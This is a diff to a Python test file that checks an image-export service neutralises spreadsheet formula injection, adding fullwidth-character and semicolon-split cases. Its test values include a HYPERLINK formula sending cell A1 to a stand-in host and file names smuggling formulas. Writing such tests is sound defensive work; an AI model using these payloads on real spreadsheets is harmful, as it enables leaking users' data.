@@ -239,7 +239,7 @@ def test_coco_reads_right_in_any_encoding_that_knows_ascii(client: TestClient, t
     assert answer.content.isascii()
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="])
 def test_no_cell_is_a_formula(client: TestClient, table: Table, owner: str, start: str) -> None:
     name = f'{start}HYPERLINK("http://x.example?"&A1,"see")'
     table.save(replace(photograph(owner), name=name, edits={name: Edit(1, MOMENT)}))
@@ -249,6 +249,16 @@ def test_no_cell_is_a_formula(client: TestClient, table: Table, owner: str, star
     assert (row[1], row[6]) == (f"'{name}", f"'{name}")
     assert row[4:6] + row[7:9] == ["64", "48", "1", "0"]
     assert exported(client, "coco")["images"][0]["file_name"] == name
+
+
+def test_a_spreadsheet_that_parts_cells_at_semicolons_sees_no_formula_either(
+    client: TestClient, table: Table, owner: str
+) -> None:
+    table.save(replace(photograph(owner), name="sea; sand;=1+1; -2.jpg"))
+
+    (row,) = exported(client)
+
+    assert row[1] == "sea; sand;'=1+1;' -2.jpg"
 
 
 def crowd(owner: str) -> Image:
